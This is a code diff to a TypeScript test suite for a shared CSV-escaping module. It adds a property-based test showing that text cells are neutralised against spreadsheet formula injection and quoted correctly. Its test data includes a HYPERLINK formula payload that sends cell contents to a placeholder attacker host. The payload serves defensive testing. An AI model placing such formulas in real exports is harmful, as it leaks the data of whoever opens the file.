@@ -1,6 +1,7 @@
 import { test } from '@japa/runner'
 import { parse } from 'csv-parse/sync'
-import { csvCell, csvDocument, csvField, neutraliseFormula } from '#shared/csv'
+import fc from 'fast-check'
+import { csvCell, csvDocument, csvField, csvTextCell, neutraliseFormula } from '#shared/csv'
 
 const hostile = [
   '=HYPERLINK("https://evil.example/?d="&A1,"Open")',
@@ -25,6 +26,24 @@ test.group('Shared CSV (server reports and admin lists)', () => {
     assert.equal(csvField('Call "Bob"'), '"Call ""Bob"""')
     assert.equal(csvField('one\r\ntwo\nthree'), '"one\r\ntwo\nthree"')
     assert.equal(csvField('plain'), 'plain')
+  })
+
+  test('a text cell is neutralised and quoted, whatever the text', ({ assert }) => {
+    for (const text of hostile) assert.equal(csvTextCell(text), csvField(`'${text}`))
+    assert.equal(csvTextCell('Acme'), 'Acme')
+    assert.equal(csvTextCell('a, b'), '"a, b"')
+    const risky = fc.string({
+      unit: fc.constantFrom('a', ' ', ',', '"', '\r', '\n', '\t', '=', '+', '-', '@', "'", 'é'),
+    })
+    fc.assert(
+      fc.property(fc.oneof(risky, fc.string()), (text) => {
+        const [[cell]] = parse(`${csvTextCell(text)}\r\n`, { relax_quotes: false }) as string[][]
+        return (
+          csvTextCell(text) === csvField(neutraliseFormula(text)) &&
+          cell === neutraliseFormula(text)
+        )
+      })
+    )
   })
 
   test('text is neutralised as the server does, numbers are written as they are', ({ assert }) => {
